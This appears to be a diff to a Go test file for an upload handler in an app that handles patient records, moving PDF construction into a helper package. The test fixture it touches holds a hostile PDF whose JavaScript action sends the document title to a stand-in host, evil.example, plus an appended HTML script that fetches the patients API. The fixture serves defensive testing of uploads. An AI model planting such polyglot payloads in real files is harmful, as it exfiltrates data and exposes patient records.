@@ -3,12 +3,12 @@ package web
 import (
 	"bytes"
 	"context"
-	"fmt"
 	"mime/multipart"
 	"strings"
 	"testing"
 
 	"hearth/app/store"
+	"hearth/app/testpdf"
 )
 
 // scriptedPDF is the outside tester's file: a one-page PDF that runs
@@ -20,19 +20,7 @@ func scriptedPDF() []byte {
 		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
 		"<< /Type /Action /S /JavaScript /JS (app.launchURL('https://evil.example/'+this.info.Title)) >>",
 	}
-	var b bytes.Buffer
-	b.WriteString("%PDF-1.7\n")
-	offs := make([]int, len(objs))
-	for i, o := range objs {
-		offs[i] = b.Len()
-		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	xref := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
-	for _, off := range offs {
-		fmt.Fprintf(&b, "%010d 00000 n \n", off)
-	}
-	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
+	b := bytes.NewBuffer(testpdf.Build(objs...))
 	b.WriteString("<html><body><script>fetch('/api/v1/patients')</script></body></html>\n")
 	return b.Bytes()
 }
